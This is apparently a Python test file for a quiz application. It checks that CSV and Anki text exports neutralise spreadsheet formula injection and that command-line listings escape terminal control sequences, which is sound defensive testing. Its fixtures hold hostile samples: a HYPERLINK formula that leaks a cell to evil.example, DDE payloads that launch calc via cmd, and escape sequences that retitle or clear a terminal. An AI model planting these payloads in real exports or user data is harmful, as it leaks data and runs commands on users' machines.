"""User text in spreadsheets and terminals (issue 14, items 6 and 7): :mod:`quiz.text_safety`, and
every export and command that uses it.

* No cell a CSV export writes starts with a character a spreadsheet runs (``= + - @``, tab, CR,
  their full-width forms) unless it is a number; the text is otherwise unchanged, and the Anki
  text export still imports back to the very same cards.
* No command prints a control character from a name or a title: ``stride user list``, ``stride
  assignment list``, ``stride deck list|parse|import|check``.
* The tables' own "Download as CSV" is turned off (the Gradebook has a safe button).
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from quiz.cli import main
from quiz.decks.anki_text import parse_anki_text
from quiz.decks.export import to_anki_text
from quiz.decks.model import ParsedCard, ParsedDeck
from quiz.runtime import Stride
from quiz.services.access import COMMAND_LINE
from quiz.services.accounts import create_user
from quiz.services.assignments import AssignmentSpec, ItemSpec, create_assignment
from quiz.services.decks import import_deck
from quiz.services.grade_exports import grades_csv
from quiz.services.gradebook import Gradebook, GradebookItem, GradebookRow
from quiz.text_safety import (
    FORMULA_STARTS,
    spreadsheet_cell,
    spreadsheet_html_cell,
    spreadsheet_row,
    terminal_json,
    terminal_text,
)
from quiz.vocabulary import MODE_HOMEWORK
from tests.support import NOON, REPO_ROOT
from tests.unit.fuzz.mutations import FUZZ

HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1+1)+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "=",
)
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b2J\u202eevil\x7f"
"""Retitle the terminal, clear it, colour it, an 8-bit CSI, a right-to-left override, DEL."""
UNSAFE_IN_A_TERMINAL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


# --- the shared functions -------------------------------------------------------------------------


cell_text = st.one_of(
    st.text(),
    st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text()),
)


@FUZZ
@given(cell_text)
@example("-3")
@example("")
def test_no_text_cell_starts_as_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert isinstance(cell, str)
    assert not _dangerous(cell)
    assert cell in (text, "'" + text)  # nothing else changes
    assert (cell != text) == _dangerous(text)


@FUZZ
@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
@example(-3)
@example(-0.5)
def test_numbers_stay_numbers(number: float) -> None:
    assert spreadsheet_cell(number) is number
    assert spreadsheet_row([number, "-3"]) == [number, "'-3"]  # only text is neutralised


@FUZZ
@given(cell_text)
def test_no_html_cell_starts_as_a_formula_and_html_reads_the_same(text: str) -> None:
    import html

    cell = spreadsheet_html_cell(text)
    assert not _dangerous(cell)
    assert html.unescape(cell) == html.unescape(text)


@FUZZ
@given(st.text())
@example(ESCAPES)
def test_terminal_text_has_no_control_characters(text: str) -> None:
    for shown in (terminal_text(text), terminal_text(text, block=True)):
        assert not UNSAFE_IN_A_TERMINAL.search(shown)
    assert "\n" not in terminal_text(text) and "\t" not in terminal_text(text)
    assert "\r" not in terminal_text(text, block=True)
    plain = "".join(c for c in text if not UNSAFE_IN_A_TERMINAL.search(c) and c not in "\t\n")
    if plain == text:
        assert terminal_text(text, block=True) == text  # ordinary text is printed as it is


def test_terminal_escapes_are_visible() -> None:
    assert terminal_text(ESCAPES) == (
        "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred\\x9b2J\\u202eevil\\x7f"
    )
    assert terminal_text("a\tb\nc\rd") == "a\\tb\\nc\\rd"
    assert terminal_text("a\tb\nc\rd", block=True) == "a\tb\nc\\rd"
    assert terminal_text("Ünïcödé ✓ $\\frac{a}{b}$") == "Ünïcödé ✓ $\\frac{a}{b}$"


@pytest.mark.slow  # hypothesis, many generated documents
@FUZZ
@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
@example({"title": ESCAPES})
def test_terminal_json_is_the_same_json_without_control_characters(value: object) -> None:
    shown = terminal_json(value)
    assert json.loads(shown) == value
    assert not UNSAFE_IN_A_TERMINAL.search(shown)


# --- the exports ----------------------------------------------------------------------------------


def _cells(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def test_the_grades_csv_neutralises_every_hostile_name() -> None:
    names = (*HOSTILE_CELLS, "O'Brien", "-")
    rows = tuple(GradebookRow(n, f"user{n}", name, (1.0,), 1.0, 1) for n, name in enumerate(names))
    item = GradebookItem(1, 1, "same-padding", "Same", 2, 1.0, None, 0, ())
    text = grades_csv(Gradebook(1, "T", MODE_HOMEWORK, NOON, (item,), rows, 1.0))
    cells = _cells(text)
    assert not [cell for cell in cells if _dangerous(cell)]
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[1] for row in read] == ["'" + n if _dangerous(n) else n for n in names]


def _hostile_deck() -> ParsedDeck:
    cards = tuple(
        ParsedCard(front, back, key=key, tags=tags)
        for front, back, key, tags in (
            (HOSTILE_CELLS[0], HOSTILE_CELLS[1], "k1", ("=cmd",)),
            (HOSTILE_CELLS[2], "-3", "k2", ()),
            ("@SUM(A1)", HOSTILE_CELLS[3], "-k3", ("+t", "plain")),
            ("＝1+1", "What is $-x$?", "k4", ()),
        )
    )
    return ParsedDeck("=HYPERLINK(deck)", cards, "markdown")


def test_the_anki_text_export_neutralises_cells_and_imports_back_the_same() -> None:
    deck = _hostile_deck()
    text = to_anki_text(deck)
    records = [line for line in text.splitlines() if not line.startswith("#")]
    cells = _cells("\n".join(records), delimiter="\t")
    assert cells and not [cell for cell in cells if _dangerous(cell)]
    again = parse_anki_text(text)
    assert [(c.front, c.back) for c in again.cards] == [(c.front, c.back) for c in deck.cards]
    assert again.title == deck.title  # on the "#deck:" line, not a cell


@pytest.fixture
def db(stride: Stride, database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stride]:
    """The database ``stride`` commands open (``STRIDE_DATABASE_URL``)."""
    monkeypatch.setenv("STRIDE_DATABASE_URL", database_url)
    yield stride


def test_stride_deck_export_csv_neutralises_cells(
    db: Stride, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with db.transaction() as session:
        import_deck(session, _hostile_deck(), NOON, slug="hostile")
    target = tmp_path / "deck.csv"
    assert main(["deck", "export", "hostile", "--format", "csv", "-o", str(target)]) == 0
    records = [line for line in target.read_text().splitlines() if not line.startswith("#")]
    cells = _cells("\n".join(records), delimiter="\t")
    assert len(records) == 4 and not [cell for cell in cells if _dangerous(cell)]
    assert "&#61;HYPERLINK(" in records[0]


def test_the_tables_own_csv_download_is_off() -> None:
    """Streamlit's dataframe toolbar writes cells verbatim; the app turns it off everywhere."""
    config = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


# --- the commands ---------------------------------------------------------------------------------


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    capsys.readouterr()
    assert main(list(argv)) == 0
    captured = capsys.readouterr()
    return captured.out + captured.err


def _assert_escaped(output: str) -> None:
    assert not UNSAFE_IN_A_TERMINAL.search(output), repr(output)
    assert "\\x1b]0;owned\\x07\\x1b[2J" in output


def test_stride_user_list_escapes_names(
    db: Stride, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("STRIDE_AUTH", "password")
    with db.transaction() as session:
        create_user(session, COMMAND_LINE, "mallory", "student", None, NOON, display_name=ESCAPES)
    output = _run(capsys, "user", "list")
    _assert_escaped(output)
    assert output.count("\n") == 1  # one account, one line


def test_stride_assignment_list_escapes_titles(
    db: Stride, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = AssignmentSpec(
        title=ESCAPES + "\nsecond line",
        instructions="",
        mode=MODE_HOMEWORK,
        opens_at=NOON,
        due_at=NOON + timedelta(days=7),
        max_attempts=2,
        items=(ItemSpec("same-padding", 2),),
    )
    with db.transaction() as session:
        create_assignment(session, db.local_actor, spec, NOON)
    output = _run(capsys, "assignment", "list")
    _assert_escaped(output)
    assert output.count("\n") == 1 and "\\nsecond line" in output


def test_stride_deck_commands_escape_titles_and_card_text(
    db: Stride, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deck = tmp_path / "hostile.md"
    deck.write_text(
        f"---\ntitle: {ESCAPES}\n---\n\n## Q: Front {ESCAPES}\n\nLine one\nLine two {ESCAPES}\n",
        encoding="utf-8",
    )
    parsed = _run(capsys, "deck", "parse", str(deck))
    _assert_escaped(parsed)
    assert "Line one\nLine two" in parsed  # a card's own lines stay lines
    as_json = _run(capsys, "deck", "parse", str(deck), "--json")
    assert not UNSAFE_IN_A_TERMINAL.search(as_json)
    assert json.loads(as_json)["title"] == ESCAPES
    assert not UNSAFE_IN_A_TERMINAL.search(_run(capsys, "deck", "import", str(deck)))
    _assert_escaped(_run(capsys, "deck", "list"))
    assert _run(capsys, "deck", "check", str(deck)).startswith(f"{deck}: OK")
